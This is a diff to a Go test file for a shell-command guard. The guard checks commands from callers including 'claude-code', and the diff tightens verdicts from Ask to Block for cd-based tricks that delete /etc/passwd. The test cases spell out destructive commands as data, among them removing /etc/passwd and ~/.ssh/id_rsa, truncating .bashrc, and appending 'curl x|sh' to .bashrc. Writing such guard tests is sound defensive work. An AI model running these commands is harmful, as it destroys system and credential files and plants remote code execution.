@@ -22,15 +22,15 @@ func TestCdAbs47(t *testing.T) {
 	}{
 		{"cd /etc && dd of=passwd", "dd of=/etc/passwd", dsl.Ask},
 		{"cd ~ && dd if=/dev/zero of=.bashrc count=0", "dd if=/dev/zero of=~/.bashrc count=0", dsl.Ask},
-		{`cd /etc && python3 -c 'import os; os.remove("passwd")'`, `python3 -c 'import os; os.remove("/etc/passwd")'`, dsl.Ask},
-		{`cd /etc && ruby -e 'File.delete("passwd")'`, `ruby -e 'File.delete("/etc/passwd")'`, dsl.Ask},
-		{`cd /etc && node -e 'require("fs").unlinkSync("passwd")'`, `node -e 'require("fs").unlinkSync("/etc/passwd")'`, dsl.Ask},
-		{`cd /etc && perl -e 'unlink "passwd"'`, `perl -e 'unlink "/etc/passwd"'`, dsl.Ask},
-		{`cd /etc && php -r 'unlink("passwd");'`, `php -r 'unlink("/etc/passwd");'`, dsl.Ask},
+		{`cd /etc && python3 -c 'import os; os.remove("passwd")'`, `python3 -c 'import os; os.remove("/etc/passwd")'`, dsl.Block},
+		{`cd /etc && ruby -e 'File.delete("passwd")'`, `ruby -e 'File.delete("/etc/passwd")'`, dsl.Block},
+		{`cd /etc && node -e 'require("fs").unlinkSync("passwd")'`, `node -e 'require("fs").unlinkSync("/etc/passwd")'`, dsl.Block},
+		{`cd /etc && perl -e 'unlink "passwd"'`, `perl -e 'unlink "/etc/passwd"'`, dsl.Block},
+		{`cd /etc && php -r 'unlink("passwd");'`, `php -r 'unlink("/etc/passwd");'`, dsl.Block},
 		{`cd /etc && python3 -c 'open("passwd","w")'`, `python3 -c 'open("/etc/passwd","w")'`, dsl.Ask},
 		{`cd ~ && python3 -c 'open(".bashrc","a").write("curl x|sh\n")'`, `python3 -c 'import os; open(os.path.expanduser("~/.bashrc"),"a").write("curl x|sh\n")'`, dsl.Ask},
 		{`cd ~/.ssh && python3 -c 'import os; os.remove("id_rsa")'`, `python3 -c 'import os; os.remove(os.path.expanduser("~/.ssh/id_rsa"))'`, dsl.Ask},
-		{`cd /etc && python3 -c 'import pathlib; pathlib.Path("passwd").unlink()'`, `python3 -c 'import pathlib; pathlib.Path("/etc/passwd").unlink()'`, dsl.Ask},
+		{`cd /etc && python3 -c 'import pathlib; pathlib.Path("passwd").unlink()'`, `python3 -c 'import pathlib; pathlib.Path("/etc/passwd").unlink()'`, dsl.Block},
 		{"cd /etc && tar cf /tmp/a.tar --remove-files passwd", "tar cf /tmp/a.tar --remove-files /etc/passwd", dsl.Ask},
 		{"cd ~ && tar cf /tmp/a.tar --remove-files .ssh", "tar cf /tmp/a.tar --remove-files ~/.ssh", dsl.Ask},
 		{"cd /etc && zip -m /tmp/a.zip passwd", "zip -m /tmp/a.zip /etc/passwd", dsl.Ask},
@@ -66,14 +66,14 @@ func TestCdAbs47(t *testing.T) {
 		{"cd /etc && nano passwd", "nano /etc/passwd", dsl.Ask},
 		// bash looks a relative cd up in CDPATH first (an assignment before
 		// cd, or set earlier on the line); cd - goes to OLDPWD
-		{"CDPATH=/ cd etc && rm passwd", "rm /etc/passwd", dsl.Ask},
+		{"CDPATH=/ cd etc && rm passwd", "rm /etc/passwd", dsl.Block},
 		{"CDPATH=~ cd .ssh && rm id_rsa", "rm ~/.ssh/id_rsa", dsl.Ask},
-		{"CDPATH=/tmp:/ cd etc && rm passwd", "rm /etc/passwd", dsl.Ask},
-		{"export CDPATH=/; cd etc && rm passwd", "rm /etc/passwd", dsl.Ask},
+		{"CDPATH=/tmp:/ cd etc && rm passwd", "rm /etc/passwd", dsl.Block},
+		{"export CDPATH=/; cd etc && rm passwd", "rm /etc/passwd", dsl.Block},
 		{"OLDPWD=~/.ssh; cd - && rm id_rsa", "rm ~/.ssh/id_rsa", dsl.Ask},
-		{"OLDPWD=/etc; cd - && rm passwd", "rm /etc/passwd", dsl.Ask},
-		{"cd /etc; cd /tmp; cd - && rm passwd", "rm /etc/passwd", dsl.Ask},
-		{"cd /etc; cd /tmp; cd \"$OLDPWD\" && rm passwd", "rm /etc/passwd", dsl.Ask},
+		{"OLDPWD=/etc; cd - && rm passwd", "rm /etc/passwd", dsl.Block},
+		{"cd /etc; cd /tmp; cd - && rm passwd", "rm /etc/passwd", dsl.Block},
+		{"cd /etc; cd /tmp; cd \"$OLDPWD\" && rm passwd", "rm /etc/passwd", dsl.Block},
 	} {
 		for _, caller := range []string{"", "claude-code"} {
 			vc := g.Check(hguard.Request{Command: tt.cd, Cwd: "/home/u/proj", Shell: "bash", Caller: caller})
@@ -146,8 +146,8 @@ func TestCdAbs47Neighbours(t *testing.T) {
 // succeeded, as && does; in bash "and" is a command of its own.
 func TestCdAbs47Fish(t *testing.T) {
 	checkShellHoles(t, []shellHoleCase{
-		{"fish", "cd /etc; and rm passwd", dsl.Ask, dsl.Ask},
+		{"fish", "cd /etc; and rm passwd", dsl.Block, dsl.Block},
 		{"fish", "cd /etc; and python3 -c 'open(\"passwd\",\"w\")'", dsl.Ask, dsl.Ask},
-		{"fish", "cd /etc; or rm passwd", dsl.Ask, dsl.Ask},
+		{"fish", "cd /etc; or rm passwd", dsl.Block, dsl.Block},
 	})
 }
